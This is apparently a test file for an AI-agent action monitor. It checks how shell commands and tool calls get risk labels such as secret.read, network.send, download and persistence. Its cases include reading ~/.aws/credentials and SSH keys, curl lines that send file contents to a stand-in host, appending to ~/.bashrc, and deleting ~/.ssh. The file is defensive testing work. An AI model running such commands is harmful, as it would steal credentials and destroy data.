"""What an action is remembered for: labels by effects, findings, tools and hints; no secret is kept."""

from __future__ import annotations

from typing import Any

import pytest

from guardtier.action import ActionEvent, ToolAnnotations
from guardtier.analyzers.flow.note import note_of
from guardtier.analyzers.flow.rulebook import Rulebook
from guardtier.analyzers.history import MAX_TARGETS, Note
from guardtier.analyzers.registry import ensemble
from guardtier.settings import Settings

RATES = ensemble(Settings.model_fields["analyzers"].default, time_limit=5)
LABELS = Rulebook().labels


def noted(tool: str = "terminal", annotations: ToolAnnotations | None = None, **arguments: Any) -> Note:
    action = ActionEvent(
        fleet="web",
        agent="a",
        conversation="c",
        tool_name=tool,
        arguments=arguments,
        annotations=annotations,
    )
    rated = RATES.assess_cheaply(action.model_copy(update={"conversation": None}))
    assert rated is not None
    return note_of(action, rated.findings, rated.risk, LABELS)


COMMANDS = [
    ("ls -la", set()),
    ("pytest -q", set()),
    ("cat ~/.aws/credentials", {"secret.read"}),
    ("grep KEY .env", {"secret.read"}),
    ("env", {"secret.read"}),
    ("tar czf x.tgz ~/Documents", {"private.read"}),
    ("curl https://x.example", {"untrusted.in"}),
    ("curl 'https://x.example/?a=b'", {"untrusted.in", "network.url_data"}),
    ("curl http://localhost:8000/?a=b", set()),
    ("curl https://x.example/v$VERSION/$(uname -m)", {"untrusted.in", "network.url_data"}),
    ("curl https://x.example/v$VERSION/$(cat a.txt)", {"untrusted.in", "network.send", "network.url_data"}),
    ("curl https://x.example/'$TAG'$(cat a.txt)", {"untrusted.in", "network.send", "network.url_data"}),
    ("TAG=$(cat a.txt); curl https://x.example/$TAG", {"untrusted.in", "network.send", "network.url_data"}),
    (
        "while read -r NAME; do curl https://x.example/$NAME; done < a.txt",
        {"untrusted.in", "network.send", "network.url_data"},
    ),
    ("curl https://x.example/$notes", {"untrusted.in", "network.send", "network.url_data"}),
    ("curl https://x.example/${TAG:-$(cat a.txt)}", {"untrusted.in", "network.send", "network.url_data"}),
    ("curl -d @- http://localhost:8000", set()),
    ("curl -d @- https://x.example", {"untrusted.in", "network.send"}),
    ("curl -O https://x.example/a.sh", {"untrusted.in", "download"}),
    ("curl https://x.example/a > a.sh", {"untrusted.in", "download"}),
    ("scp a.txt b@x.example:", {"network.send"}),
    ("bash build.sh", {"code.run"}),
    ("./configure", {"code.run"}),
    ("echo x >> ~/.bashrc", {"persistence"}),
    ("mail -s hi bob@x.example", {"network.send", "message.sent"}),
]


@pytest.mark.parametrize(("command", "labels"), COMMANDS, ids=[command for command, _ in COMMANDS])
def test_the_labels_of_commands(command: str, labels: set[str]) -> None:
    assert set(noted(command=command).labels) == labels


TOOLS: list[tuple[str, dict[str, Any], set[str]]] = [
    ("read_file", {"path": "/home/ann/.ssh/id_rsa"}, {"secret.read"}),
    ("read_file", {"path": "src/x.py"}, set()),
    ("fetch", {"url": "https://x.example/a"}, {"untrusted.in"}),
    ("browse", {"url": "https://x.example/a"}, {"untrusted.in"}),
    ("web_search", {"query": "x"}, {"untrusted.in"}),
    ("http_post", {"url": "https://x.example", "body": "x"}, {"network.send"}),
    ("send_email", {"to": "b@x.example", "text": "x"}, {"message.sent"}),
    ("mcp__slack__post_message", {"text": "x"}, {"message.sent"}),
    ("python", {"code": "print(open('/root/.netrc').read())"}, {"secret.read", "code.run"}),
    (
        "python",
        {"code": "import requests\nrequests.post('https://x.example', data='x')"},
        {"network.send", "code.run"},
    ),
    (
        "python",
        {"code": "import urllib.request as u\nu.urlretrieve('https://x.example/a', 'a.py')"},
        {"untrusted.in", "download", "code.run"},
    ),
]


@pytest.mark.parametrize(("tool", "arguments", "labels"), TOOLS, ids=[str(case[:2]) for case in TOOLS])
def test_the_labels_of_tools(tool: str, arguments: dict[str, Any], labels: set[str]) -> None:
    assert set(noted(tool, **arguments).labels) == labels


@pytest.mark.parametrize(
    ("hints", "labels"),
    [
        (ToolAnnotations(readOnlyHint=True, openWorldHint=True), {"untrusted.in"}),
        (ToolAnnotations(readOnlyHint=True, openWorldHint=False), set()),
        (ToolAnnotations(destructiveHint=False, openWorldHint=True), {"network.send"}),
        (ToolAnnotations(destructiveHint=False), set()),
    ],
)
def test_the_labels_of_tools_by_what_they_say(hints: ToolAnnotations, labels: set[str]) -> None:
    assert set(noted("mcp__wiki__lookup", hints, page="x").labels) == labels


def test_the_same_harm_has_the_same_key_in_any_words() -> None:
    one = noted(command="rm -rf ~/.ssh")
    two = noted(command="cd /root && find .ssh -delete")
    three = noted("python", code="import shutil\nshutil.rmtree('/root/.ssh')")

    assert set(one.keys) & set(two.keys) & set(three.keys)
    assert not set(one.keys) & set(noted(command="rm -rf ~/.gnupg").keys)


@pytest.mark.parametrize(
    ("command", "secret"),
    [
        ("curl https://ann:hunter22@x.example/a", "hunter22"),
        ("curl 'https://x.example/?token=abc'", "token=abc"),
        ("cat /tmp/ghp_16C7e42F292c6912E7710c838347Ae178B4a", "292c6912E7710c838347"),
    ],
)
def test_what_is_written_down_holds_no_secret(command: str, secret: str) -> None:
    note = noted(command=command)

    assert secret not in note.model_dump_json()


def test_what_is_written_down_is_bounded() -> None:
    many = " && ".join(f"curl -d x https://h{n}.example/{'p' * 300}" for n in range(500))

    note = noted(command=many)

    assert len(note.targets) <= MAX_TARGETS
    assert len(note.keys) <= MAX_TARGETS
    assert len(note.model_dump_json()) < 20_000


def test_an_action_that_is_not_read_to_its_end_leaves_a_history_that_is_not_all_known() -> None:
    assert "history.lost" in noted(command="eval " * 100 + "cat ~/.aws/credentials").labels
    assert "history.lost" in noted("read_file", paths=["a.txt"] * 5000).labels
    assert "history.lost" not in noted("read_file", paths=["a.txt"] * 300).labels
